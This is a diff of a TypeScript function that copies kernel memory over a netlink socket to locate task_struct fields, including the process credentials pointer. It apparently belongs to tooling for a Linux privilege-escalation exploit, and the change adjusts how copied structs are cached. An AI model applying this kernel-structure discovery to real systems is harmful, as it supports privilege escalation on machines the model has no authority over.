@@ -19,20 +19,21 @@ export function findTask(memory: KernelMemory, socket: NetlinkSocket, marks: Mar
   const copy = (): Copy => required("struct task_struct", memory.copy(socket, BASE.task));
   const task = copy();
   const end = task.length - 16;
+  const copies = new Map<bigint, Copy | undefined>();
   /** Returns the first pointer to a struct that passes the test. */
   const pointer = (
     name: FieldName,
     from: number,
     holder: Copy,
     isStruct: (pointed: Copy) => boolean,
+    known = copies,
   ): number => {
-    const tested = new Map<bigint, boolean>();
     return first(name, from, end, 8, (at) => {
       const address = holder.u64(at);
       if (!memory.isAddress(address)) return false;
-      const pointed = tested.has(address) ? undefined : memory.copy(socket, address);
-      if (pointed) tested.set(address, isStruct(pointed));
-      return tested.get(address) ?? false;
+      if (!known.has(address)) known.set(address, memory.copy(socket, address));
+      const pointed = known.get(address);
+      return pointed !== undefined && isStruct(pointed);
     });
   };
   const { pid, ppid } = process;
@@ -70,7 +71,8 @@ export function findTask(memory: KernelMemory, socket: NetlinkSocket, marks: Mar
     "task_struct.thread_pid": pointer("task_struct.thread_pid", 0, task, isPid),
     "pid.numbers": numbers,
     ...findMemory((isStruct) => pointer("task_struct.mm", 0, task, isStruct)),
-    ...findCredentials((isStruct) => pointer("task_struct.cred", 0, copy(), isStruct), marks),
+    // The struct is new, and may be where another one was.
+    ...findCredentials((isStruct) => pointer("task_struct.cred", 0, copy(), isStruct, new Map()), marks),
     ...findLogin(copy, end, marks),
   };
 }
